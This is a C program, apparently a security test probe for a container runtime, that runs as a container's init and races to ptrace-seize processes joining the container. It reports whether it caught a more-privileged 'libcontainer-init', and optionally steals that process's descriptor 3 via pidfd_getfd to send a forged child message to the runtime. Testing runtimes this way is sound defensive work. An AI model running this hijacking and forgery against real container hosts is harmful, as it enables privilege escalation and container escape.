// Runs in a container as its first process: tries to stop every process that joins before it has
// become the command, and tells what it caught. With an argument it also tells whoever started that
// process, through its own channel, that it is this one. Ends with the end of its input.
#include <errno.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "last_pid.h"

static unsigned long long capabilities_of(const char* process) {
  char path[64];
  char line[256];
  unsigned long long effective = 0;
  snprintf(path, sizeof path, "/proc/%s/status", process);
  FILE* status = fopen(path, "re");
  while (status != NULL && fgets(line, sizeof line, status) != NULL) {
    if (strncmp(line, "CapEff:", 7) == 0) effective = strtoull(line + 7, NULL, 16);
  }
  if (status != NULL) fclose(status);
  return effective;
}

// The frame of namespaces/message.h: length, kind kChild, pid; and a pidfd.
static void forge(int pid) {
  const struct {
    uint64_t length;
    uint64_t kind;
    char pid[1];
  } frame = {1, 6, {'1'}};
  union {
    struct cmsghdr header;
    char space[CMSG_SPACE(sizeof(int))];
  } control = {.header = {CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS}};
  struct iovec part = {(void*)&frame, 17};
  struct msghdr message = {
      .msg_iov = &part, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
  const int self = (int)syscall(SYS_pidfd_open, 1, 0);
  const int process = (int)syscall(SYS_pidfd_open, pid, 0);
  const int channel = (int)syscall(SYS_pidfd_getfd, process, 3, 0);
  memcpy(CMSG_DATA(&control.header), &self, sizeof self);
  if (sendmsg(channel, &message, 0) == 17) puts("forged");
  close(channel);
  close(process);
  close(self);
}

static void examine(int pid, unsigned long long own) {
  char path[64];
  char program[256] = "";
  char process[16];
  snprintf(process, sizeof process, "%d", pid);
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  if (readlink(path, program, sizeof program - 1) < 0) return;
  if (strstr(program, "libcontainer-init") == NULL) return;
  const unsigned long long caught = capabilities_of(process);
  printf("%s\n", (caught & ~own) != 0 ? "caught more capabilities" : "caught the init");
}

int main(int argc, char** argv) {
  (void)argv;
  const unsigned long long own = capabilities_of("self");
  struct pollfd input = {0, POLLIN, 0};
  int next = 2;
  setvbuf(stdout, NULL, _IOLBF, 0);
  puts("ready");
  for (unsigned long tries = 0; (tries & 0xfff) != 0 || poll(&input, 1, 0) == 0; ++tries) {
    const int last = (tries & 0xff) == 0 ? last_pid() : 0;
    if (last > next) next = last;
    // Pids are given in order, but others take some as well.
    for (int pid = next; pid < next + 3; ++pid) {
      if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) {
        if (errno == EPERM && pid > next) next = pid;
        continue;
      }
      int status = 0;
      if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid) {
        examine(pid, own);
        if (argc > 1) forge(pid);
      }
      ptrace(PTRACE_DETACH, pid, 0, 0);
      next = pid + 1;
    }
    while (waitpid(-1, NULL, WNOHANG | __WALL) > 0) continue;
  }
  return 0;
}
